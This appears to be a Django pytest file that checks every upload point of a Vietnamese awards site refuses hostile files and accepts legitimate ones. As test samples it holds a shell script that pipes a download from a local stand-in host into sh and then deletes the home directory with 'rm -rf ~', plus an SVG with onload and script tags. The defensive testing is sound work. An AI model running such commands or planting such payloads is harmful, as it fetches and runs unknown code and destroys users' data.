"""Hostile files at every upload point of the site.

Each point takes (a) a shell script named .pdf, (b) an SVG with an onload script
named .png, (c) a file one byte over UPLOAD_MAX_MB, for spreadsheet imports (d) a
script named .xlsx, and (e) every file that carries code (CODE_CASES: Word and
Excel files with macros or ActiveX, PDFs with JavaScript, launch actions or
embedded files, names hex-escaped or packed in object streams, and files that are
two formats at once). Each is refused without a server error, with a clear message
in Vietnamese (the default language) saying why, no new row for the feature and no
file left in MEDIA_ROOT. Legitimate files of every kind are taken at every point.

UPLOADS, just below, names every upload point. Two checks keep it complete: the
URL resolver is scanned for views whose own code reads request.FILES, and the
project's forms are scanned for file fields; both must match the table. (A scan
of the code, rather than a hand-kept list of URL names, is what notices a new
upload view.) The admin site is checked apart: it takes no file at all.
"""

import datetime
import html
import importlib
import inspect
import io
import pkgutil
import re
from dataclasses import dataclass
from pathlib import Path

import pytest
from django import forms
from django.apps import apps
from django.conf import settings as django_settings
from django.contrib import admin
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.test import RequestFactory
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from openpyxl import Workbook

from audit.models import AuditEntry
from awards import dossier as dossiers
from awards.forms.dossier import DecisionForm
from awards.forms.records import PactForm, RatingsImportForm, RecordForm
from awards.models import AwardForm
from initiatives.forms.requests import AttachmentForm
from initiatives.models import Attachment
from tests import upload_samples as samples
from tests.awards.conftest import movement, selected_round  # noqa: F401 (fixtures)
from tests.initiatives.helpers import make_request
from units.forms import ImportUploadForm
from units.imports.columns import columns_for
from units.models import ImportBatch

pytestmark = pytest.mark.django_db

# What a point takes: a document (PDF, Word, Excel, JPEG or PNG, by content), an
# Excel workbook only, or a table (an Excel workbook or a CSV file).
DOCUMENT, WORKBOOK, TABLE = "document", "workbook", "table"

# Every upload point: what it is -> (URL name, form with the file field, takes).
UPLOADS = {
    "request attachment": ("initiatives:attachment_upload", AttachmentForm, DOCUMENT),
    "movement record document": ("awards:record_create", RecordForm, DOCUMENT),
    "signed pact": ("awards:pact_create", PactForm, DOCUMENT),
    "award decision (dossier)": ("awards:decision_create", DecisionForm, DOCUMENT),
    "union ratings import": ("awards:ratings_import", RatingsImportForm, WORKBOOK),
    "member ratings import": ("awards:ratings_import", RatingsImportForm, WORKBOOK),
    "units import": ("units:import_start", ImportUploadForm, TABLE),
    "people import": ("units:import_start", ImportUploadForm, TABLE),
}

PROJECT_APPS = (
    "units",
    "audit",
    "documents",
    "initiatives",
    "goldbook",
    "awards",
    "jobs",
)
TODAY = timezone.localdate()
YEAR = TODAY.year

# Letters only Vietnamese uses; an English message has none of them.
VIETNAMESE = re.compile(
    "[àáảãạăằắẳẵặâầấẩẫậđèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵ]",
    re.IGNORECASE,
)

# --- The hostile files ---------------------------------------------------------------

SCRIPT = b"#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\nrm -rf ~\n"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(2)</script></svg>"
)
PDF_HEAD = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
MAX_MB = 1  # set as settings.UPLOAD_MAX_MB in every test, to keep files small


def one_byte_over() -> bytes:
    """A PDF (by its content) one byte larger than the limit."""
    size = MAX_MB * 1024 * 1024 + 1
    return PDF_HEAD + b"%" * (size - len(PDF_HEAD))


# name -> (file name, content, the type the browser claims)
CASES = {
    "script named .pdf": ("bao-cao.pdf", lambda: SCRIPT, "application/pdf"),
    "svg named .png": ("anh-chup.png", lambda: SVG, "image/png"),
    "one byte over the limit": ("lon.pdf", one_byte_over, "application/pdf"),
    "script named .xlsx": (
        "so-lieu.xlsx",
        lambda: SCRIPT,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
}
DOCUMENT_CASES = ["script named .pdf", "svg named .png", "one byte over the limit"]
SPREADSHEET_CASES = [*DOCUMENT_CASES, "script named .xlsx"]

# Files that carry code, refused at every point for it: name -> (file name,
# content, the type the browser claims, the message that says why).
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
MACROS = (
    "This Word or Excel file contains macros or ActiveX controls, code that runs "
    "on the reader's computer. Save it as a plain .docx or .xlsx file without "
    "macros and upload that."
)
PDF_SCRIPT = (
    "This PDF contains JavaScript, code that runs when it is opened. Print it to "
    "a new PDF without scripts and upload that."
)
PDF_LAUNCH = (
    "This PDF contains an action that starts a program on the reader's computer. "
    "Print it to a new PDF and upload that."
)
PDF_EMBEDDED = (
    "This PDF carries other files or media inside it. Upload those files "
    "separately, and the PDF printed again without them."
)
TWO_FORMATS = (
    "This file is two formats at once (for example a PDF that is also a ZIP "
    "archive), a way of hiding code. Save it again from the program that made it "
    "and upload that."
)
UNCHECKABLE = (
    "Parts of this file are packed in a way that cannot be checked for code. Save "
    "or print it again from the program that made it and upload that."
)
CODE = {
    "Word file with a VBA project": (
        "bao-cao.docx",
        samples.docx_with_vba_project,
        WORD,
        MACROS,
    ),
    ".docm renamed .docx": ("bao-cao.docx", samples.docm_renamed_docx, WORD, MACROS),
    "Word file with an ActiveX control": (
        "bao-cao.docx",
        samples.docx_with_activex,
        WORD,
        MACROS,
    ),
    ".xlsm renamed .xlsx": ("so-lieu.xlsx", samples.xlsm_renamed_xlsx, EXCEL, MACROS),
    "PDF with JavaScript": (
        "to-trinh.pdf",
        samples.pdf_with_javascript,
        "application/pdf",
        PDF_SCRIPT,
    ),
    "PDF with a hex-escaped JavaScript name": (
        "to-trinh.pdf",
        samples.pdf_with_escaped_javascript,
        "application/pdf",
        PDF_SCRIPT,
    ),
    "PDF with JavaScript in a compressed object stream": (
        "to-trinh.pdf",
        samples.pdf_with_javascript_in_object_stream,
        "application/pdf",
        PDF_SCRIPT,
    ),
    "PDF with a launch action": (
        "to-trinh.pdf",
        samples.pdf_with_launch,
        "application/pdf",
        PDF_LAUNCH,
    ),
    "PDF with a hex-escaped launch action": (
        "to-trinh.pdf",
        samples.pdf_with_escaped_launch,
        "application/pdf",
        PDF_LAUNCH,
    ),
    "PDF with an embedded file": (
        "hoa-don.pdf",
        samples.pdf_with_embedded_file,
        "application/pdf",
        PDF_EMBEDDED,
    ),
    "PDF with hex-escaped embedded file names": (
        "hoa-don.pdf",
        samples.pdf_with_escaped_embedded_file,
        "application/pdf",
        PDF_EMBEDDED,
    ),
    "PDF with rich media": (
        "video.pdf",
        samples.pdf_with_rich_media,
        "application/pdf",
        PDF_EMBEDDED,
    ),
    "PDF with an object stream packed past checking": (
        "to-trinh.pdf",
        samples.pdf_with_hex_packed_object_stream,
        "application/pdf",
        UNCHECKABLE,
    ),
    "PDF that is also a ZIP": (
        "minh-chung.pdf",
        samples.pdf_that_is_a_zip,
        "application/pdf",
        TWO_FORMATS,
    ),
    "Word file that is also a PDF": (
        "bao-cao.docx",
        samples.docx_with_pdf_header,
        WORD,
        TWO_FORMATS,
    ),
    "PNG with a ZIP appended": (
        "anh-chup.png",
        samples.png_with_zip,
        "image/png",
        TWO_FORMATS,
    ),
    "JPEG with a ZIP appended": (
        "anh-chup.jpg",
        samples.jpeg_with_zip,
        "image/jpeg",
        TWO_FORMATS,
    ),
}
CASES.update(
    {case: (name, build, kind) for case, (name, build, kind, _m) in CODE.items()}
)
CODE_CASES = list(CODE)


def cases_of(point: str) -> list[str]:
    if UPLOADS[point][2] == DOCUMENT:
        return [*DOCUMENT_CASES, *CODE_CASES]
    return [*SPREADSHEET_CASES, *CODE_CASES]


# --- What is expected ---------------------------------------------------------------

TYPE_REFUSED = (
    "Only PDF, Word (.docx), Excel (.xlsx), JPEG and PNG files are accepted, "
    "recognised by their content; this file is none of them."
)
TOO_LARGE = "The file is larger than %(mb)d MB."
NO_HEADER = (
    "No header row was found in the first %(count)d rows. The header row must "
    "name the columns: %(expected)s."
)


def vi(message: str, **values) -> str:
    """The Vietnamese text of a message, as the site shows it by default."""
    with translation.override("vi"):
        text = gettext(message)
    return text % values if values else text


def expected_message(point: str, case: str) -> str:
    """A document or workbook is refused on its content; a table is read as CSV
    too, so text that is not the template's table is refused for its header:
    the message names the columns looked for and the rows searched. Any file is
    refused for its size first, then a file carrying code for it."""
    if case == "one byte over the limit":
        return vi(TOO_LARGE, mb=MAX_MB)
    if case in CODE:
        return vi(CODE[case][3])
    if UPLOADS[point][2] == TABLE:
        kind = "units" if point == "units import" else "people"
        lines = len(CASES[case][1]().splitlines())
        expected = ", ".join(c.label for c in columns_for(kind))
        return vi(NO_HEADER, count=min(20, lines), expected=expected)
    return vi(TYPE_REFUSED)


def allowed_new_rows(point: str) -> set[str]:
    """A table import keeps its check as a batch (INVALID, with no rows; see
    test_a_refused_import_keeps_only_its_invalid_check) and the audit log notes
    it; every other table must keep its count."""
    if UPLOADS[point][2] == TABLE:
        return {"units.importbatch", "audit.auditentry"}
    return set()


# --- Posting to each point ----------------------------------------------------------


@dataclass
class Posted:
    """What a point needs to receive a file: who posts, where, with what data."""

    user: object
    url: str
    data: dict


def _typed(day: datetime.date) -> str:
    return day.strftime("%d/%m/%Y")


def _attachment(cast, request) -> Posted:
    initiative = make_request(cast.a1_member, unit=cast.tree.a1)
    return Posted(
        cast.a1_member,
        reverse("initiatives:attachment_upload", args=[initiative.pk]),
        {"purpose": Attachment.Purpose.EVIDENCE},
    )


def _record(cast, request) -> Posted:
    return Posted(
        cast.a_staff,
        reverse("awards:record_create") + f"?unit={cast.tree.a.pk}",
        {
            "kind": "launch",
            "year": str(YEAR),
            "held_on": _typed(TODAY.replace(day=1)),
            "title": "Kế hoạch phát động phong trào",
            "summary": "",
            "inspected_unit": "",
        },
    )


def _pact(cast, request) -> Posted:
    tree = cast.tree
    return Posted(
        cast.a_admin,
        reverse("awards:pact_create") + f"?unit={tree.a.pk}",
        {
            "year": str(YEAR),
            "signed_on": _typed(TODAY.replace(day=1)),
            "title": "Giao ước thi đua khối trường học",
            "content": "Thi đua dạy tốt, học tốt.",
            "block": "",
            "signatories-TOTAL_FORMS": "1",
            "signatories-INITIAL_FORMS": "0",
            "signatories-MIN_NUM_FORMS": "1",
            "signatories-MAX_NUM_FORMS": "200",
            "signatories-0-unit": str(tree.a1.pk),
            "signatories-0-signer_name": "Nguyễn Thị Lan",
            "signatories-0-signer_position": "Chủ tịch",
        },
    )


def _decision(cast, request) -> Posted:
    """An accepted dossier of CB-A, answered by the province's staff."""
    award_round, candidates, _entry = request.getfixturevalue("selected_round")
    dossier = dossiers.dossier_issue(award_round=award_round, actor=cast.a_staff)
    dossier = dossiers.dossier_send(dossier=dossier, actor=cast.a_staff)
    dossier = dossiers.dossier_accept(dossier=dossier, actor=cast.province_staff)
    return Posted(
        cast.province_staff,
        reverse("awards:decision_create", args=[dossier.pk]),
        {
            "award_form": str(AwardForm.objects.get(name="Giấy khen").pk),
            "symbol": "125/QĐ-LĐLĐ",
            "issued_on": _typed(TODAY),
            "awardees": [str(c.pk) for c in candidates],
        },
    )


def _ratings(kind: str):
    def prepare(cast, request) -> Posted:
        unit = cast.tree.a if kind == "units" else cast.tree.a1
        return Posted(
            cast.a_admin,
            reverse("awards:ratings_import", args=[unit.pk]),
            {"kind": kind, "year": str(YEAR)},
        )

    return prepare


def _table_import(kind: str):
    def prepare(cast, request) -> Posted:
        return Posted(
            cast.a_admin,
            reverse("units:import_start", args=[cast.tree.a.pk]),
            {"kind": kind},
        )

    return prepare


# point -> (cast, pytest request) -> Posted
PREPARE = {
    "request attachment": _attachment,
    "movement record document": _record,
    "signed pact": _pact,
    "award decision (dossier)": _decision,
    "union ratings import": _ratings("units"),
    "member ratings import": _ratings("members"),
    "units import": _table_import("units"),
    "people import": _table_import("people"),
}


def _workbook(*rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# point -> (file name, content) that the point takes (a PDF by default).
GOOD_FILES = {
    "union ratings import": (
        "xep-loai.xlsx",
        _workbook(["Mã đơn vị", "Xếp loại"], ["CB-A1", "Công đoàn vững mạnh"]),
    ),
    "member ratings import": (
        "xep-loai.xlsx",
        _workbook(["Tên đăng nhập hoặc email", "Xếp loại"], ["a1_member", "Khá"]),
    ),
    "units import": (
        "don-vi.csv",
        "Mã đơn vị,Tên đơn vị,Loại đơn vị,Mã đơn vị cấp trên\n"
        "CB-A-N1,Công đoàn Trường Mới,CĐCS,CB-A\n".encode(),
    ),
    "people import": (
        "nguoi.csv",
        "Mã đơn vị,Họ và tên\nCB-A1,Nguyễn Văn Mới\n".encode(),
    ),
}


def test_every_upload_point_can_be_posted_to():
    assert set(PREPARE) == set(UPLOADS)


# --- Completeness of the table -------------------------------------------------------


def _url_views(resolver=None, namespace="", prefix=""):
    """Yield (URL name, route, view) for every pattern outside the admin site."""
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            if pattern.app_name == "admin":
                continue  # see test_the_admin_site_takes_no_file
            yield from _url_views(pattern, pattern.namespace or namespace, route)
        else:
            name = f"{namespace}:{pattern.name}" if namespace else pattern.name
            yield name, route, pattern.callback


def _ours(obj) -> bool:
    return (getattr(obj, "__module__", None) or "").split(".")[0] in PROJECT_APPS


def _our_function(obj) -> bool:
    """A function written in the project (a decorator's wrapper copies the
    module name of what it wraps, so the code's file decides)."""
    if not inspect.isfunction(obj):
        return False
    path = Path(obj.__code__.co_filename).resolve()
    base = Path(django_settings.BASE_DIR).resolve()
    return path.is_relative_to(base) and path.relative_to(base).parts[0] in PROJECT_APPS


def _project_code_of(view) -> str:
    """The source of a view as the project wrote it: each of its functions down
    the chain of decorators, and the project's own classes of a class-based or
    callable-object view. (Django's generic FormMixin mentions request.FILES for
    every form view, with a file or not, so Django's classes are left out.)"""
    parts, target = [], view
    while True:
        if _our_function(target):
            # The code object: getsource() on a function would unwrap it.
            parts.append(inspect.getsource(target.__code__))
        if not hasattr(target, "__wrapped__"):
            break
        target = target.__wrapped__
    view_class = getattr(view, "view_class", None)
    if view_class is None and not inspect.isfunction(target):
        view_class = type(target)
    if view_class is not None:
        parts += [inspect.getsource(k) for k in view_class.__mro__ if _ours(k)]
    return "".join(parts)


def test_every_view_that_reads_files_is_in_the_table():
    """A view reading request.FILES that the table does not name fails here.
    The scan reads each view's own code; a view handing request.FILES to a helper
    in another function is caught by the form scan below instead."""
    reading = {
        name
        for name, _route, view in _url_views()
        if "request.FILES" in _project_code_of(view)
    }
    assert reading == {url_name for url_name, _form, _takes in UPLOADS.values()}


def _project_forms():
    """Every form class defined in the project's apps."""
    for app in PROJECT_APPS:
        try:
            module = importlib.import_module(f"{app}.forms")
        except ModuleNotFoundError:
            continue
        # A package of forms: every module in it.
        for info in pkgutil.iter_modules(getattr(module, "__path__", [])):
            importlib.import_module(f"{app}.forms.{info.name}")
    seen, stack = set(), [forms.BaseForm]
    while stack:
        klass = stack.pop()
        for sub in klass.__subclasses__():
            if sub not in seen:
                seen.add(sub)
                stack.append(sub)
    return {klass for klass in seen if klass.__module__.split(".")[0] in PROJECT_APPS}


def test_every_form_with_a_file_field_is_in_the_table():
    with_files = {
        klass
        for klass in _project_forms()
        if any(isinstance(f, forms.FileField) for f in klass.base_fields.values())
    }
    assert with_files == {form for _url_name, form, _takes in UPLOADS.values()}


def _file_fields(model) -> list[str]:
    return [f.name for f in model._meta.get_fields() if isinstance(f, models.FileField)]


def test_the_admin_site_takes_no_file(cast):
    """The admin writes no model that holds a file, directly or inline."""
    request = RequestFactory().get("/admin/")
    request.user = cast.superuser
    writable = []
    for model, model_admin in admin.site._registry.items():
        holders = [(model, model_admin)] + [
            (inline.model, inline)
            for inline in model_admin.get_inline_instances(request)
        ]
        for holder, holder_admin in holders:
            if not _file_fields(holder):
                continue
            if holder is model:
                may_add = holder_admin.has_add_permission(request)
            else:
                may_add = holder_admin.has_add_permission(request, None)
            if may_add or holder_admin.has_change_permission(request):
                writable.append(holder._meta.label)
    assert writable == []
    # The scan reaches models with files at all (the admin lists some).
    assert any(_file_fields(model) for model in admin.site._registry)


def test_the_table_covers_every_file_field_of_the_models():
    """Every stored file of the project is written by an upload point, a print job
    or an issued document: a new model file field must be looked at here."""
    holders = {
        model._meta.label_lower
        for app in PROJECT_APPS
        for model in apps.get_app_config(app).get_models()
        if _file_fields(model)
    }
    assert holders == {
        "initiatives.attachment",  # request attachment
        "awards.movementrecord",  # movement record document
        "awards.pact",  # signed pact
        "awards.awarddecision",  # award decision
        "documents.issueddocument",  # rendered by the application, not uploaded
        "jobs.job",  # a print made by the worker, not uploaded
        "units.importbatch",  # a workbook of several sheets, kept by its check
    }


# --- The refusals --------------------------------------------------------------------


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.UPLOAD_MAX_MB = MAX_MB
    # Uploads are rate limited per person; start every test with none counted.
    cache.clear()
    yield settings.MEDIA_ROOT
    cache.clear()


def stored_files() -> set[Path]:
    root = Path(django_settings.MEDIA_ROOT)
    return {path for path in root.rglob("*") if path.is_file()}


def row_counts() -> dict[str, int]:
    return {
        model._meta.label_lower: model._base_manager.count()
        for app in PROJECT_APPS
        for model in apps.get_app_config(app).get_models()
    }


def page_text(response) -> str:
    """The text of a page, tags removed and entities decoded."""
    content = response.content.decode()
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", content)).split())


@pytest.mark.parametrize(
    ("point", "case"),
    [
        pytest.param(point, case, id=f"{point}-{case}")
        for point in UPLOADS
        for case in cases_of(point)
    ],
)
def test_a_hostile_file_is_refused_clearly_and_leaves_nothing(
    point, case, cast, client_for, request
):
    posted = PREPARE[point](cast, request)
    name, build, content_type = CASES[case]
    client = client_for(posted.user)
    before_rows, before_files = row_counts(), stored_files()

    upload = SimpleUploadedFile(name, build(), content_type=content_type)
    response = client.post(posted.url, {**posted.data, "file": upload}, follow=True)

    # Never a server error, along the whole way.
    statuses = [status for _url, status in response.redirect_chain]
    assert all(status < 500 for status in statuses), response.redirect_chain
    assert response.status_code in (200, 400), response.status_code
    # A clear message in Vietnamese.
    expected = expected_message(point, case)
    assert VIETNAMESE.search(expected), f"not translated: {expected!r}"
    assert expected in page_text(response)
    # The markup of the file is never put into the page as markup.
    assert 'onload="alert(1)"' not in response.content.decode()
    # Nothing written for the feature, no file kept.
    after_rows = row_counts()
    changed = {
        label: after_rows[label] - count
        for label, count in before_rows.items()
        if after_rows[label] != count
    }
    allowed = allowed_new_rows(point)
    assert {k: v for k, v in changed.items() if k not in allowed} == {}
    assert all(changed.get(label, 0) <= 1 for label in allowed), changed
    assert stored_files() == before_files


def assert_taken(point, name, content, cast, client_for, request):
    posted = PREPARE[point](cast, request)
    client = client_for(posted.user)
    before_rows, before_files = row_counts(), stored_files()
    upload = SimpleUploadedFile(name, content, content_type="application/pdf")
    response = client.post(posted.url, {**posted.data, "file": upload})
    assert response.status_code == 302, response.status_code
    after_rows = row_counts()
    grown = {label for label, count in after_rows.items() if count > before_rows[label]}
    assert grown - {"audit.auditentry"}, "nothing was written"
    takes = UPLOADS[point][2]
    if takes == TABLE:
        assert ImportBatch.objects.get().status == ImportBatch.Status.CHECKED
    elif takes == DOCUMENT:
        assert len(stored_files() - before_files) == 1


@pytest.mark.parametrize("point", UPLOADS)
def test_the_same_post_with_a_good_file_is_taken(point, cast, client_for, request):
    """The control: every other field of the posts above is right, so what is
    refused there is the file alone."""
    name, content = GOOD_FILES.get(point, ("minh-chung.pdf", PDF_HEAD))
    assert_taken(point, name, content, cast, client_for, request)


# Files as offices make them, with nothing that runs: name -> (file name, content).
LEGITIMATE_DOCUMENTS = {
    "plain Word file with a picture": ("bao-cao.docx", samples.plain_docx),
    "Excel file": ("so-lieu.xlsx", samples.plain_xlsx),
    "PDF with a link, an outline and an opening view": (
        "minh-chung.pdf",
        samples.pdf_with_links,
    ),
    "PDF in compressed object streams, with links": (
        "ban-in.pdf",
        samples.weasyprint_pdf,
    ),
    "PNG photo": ("anh-chup.png", lambda: samples.noise_image("PNG")),
    "JPEG photo": ("anh-chup.jpg", lambda: samples.noise_image("JPEG")),
}
UNITS_COLUMNS = ["Mã đơn vị", "Tên đơn vị", "Loại đơn vị", "Mã đơn vị cấp trên"]
LEGITIMATE_TABLES = {
    "units import": (
        "don-vi.xlsx",
        lambda: samples.plain_xlsx(
            UNITS_COLUMNS, ["CB-A-N1", "Công đoàn Trường Mới", "CĐCS", "CB-A"]
        ),
    ),
    "people import": (
        "nguoi.xlsx",
        lambda: samples.plain_xlsx(["Mã đơn vị", "Họ và tên"], ["CB-A1", "Lê Văn Mới"]),
    ),
}


def legitimate_files() -> list:
    params = []
    for point, (_url_name, _form, takes) in UPLOADS.items():
        if takes == DOCUMENT:
            cases = [
                case
                for case, (name, _build) in LEGITIMATE_DOCUMENTS.items()
                # The signed decision is taken as a PDF only.
                if point != "award decision (dossier)" or name.endswith(".pdf")
            ]
            params += [pytest.param(point, c, id=f"{point}-{c}") for c in cases]
        elif point in LEGITIMATE_TABLES:
            params.append(pytest.param(point, "Excel workbook", id=point))
    return params


@pytest.mark.parametrize(("point", "case"), legitimate_files())
def test_legitimate_files_are_taken(point, case, cast, client_for, request):
    """The checks for code refuse none of the files offices make."""
    if point in LEGITIMATE_TABLES:
        name, build = LEGITIMATE_TABLES[point]
    else:
        name, build = LEGITIMATE_DOCUMENTS[case]
    assert_taken(point, name, build(), cast, client_for, request)


@pytest.mark.parametrize("case", [*SPREADSHEET_CASES, *CODE_CASES])
@pytest.mark.parametrize("point", ["units import", "people import"])
def test_a_refused_import_keeps_only_its_invalid_check(point, case, cast, client_for):
    """The unit import keeps each check as a batch to show its problems: a
    refused file leaves one INVALID batch holding no row to apply."""
    posted = PREPARE[point](cast, None)
    name, build, content_type = CASES[case]
    client = client_for(posted.user)
    seen = set(AuditEntry.objects.values_list("pk", flat=True))
    upload = SimpleUploadedFile(name, build(), content_type=content_type)
    response = client.post(posted.url, {**posted.data, "file": upload})
    batch = ImportBatch.objects.get()
    assert response.status_code == 302
    assert response.url == batch.get_absolute_url()
    assert batch.status == ImportBatch.Status.INVALID
    assert batch.rows == []
    assert batch.errors
    # The only entry the upload added to the audit log is the batch's.
    assert [
        (entry.target_type, entry.target_id)
        for entry in AuditEntry.objects.exclude(pk__in=seen)
    ] == [("units.importbatch", str(batch.pk))]
    # Applying it anyway writes nothing.
    client.post(reverse("units:import_apply", args=[batch.pk]))
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.INVALID
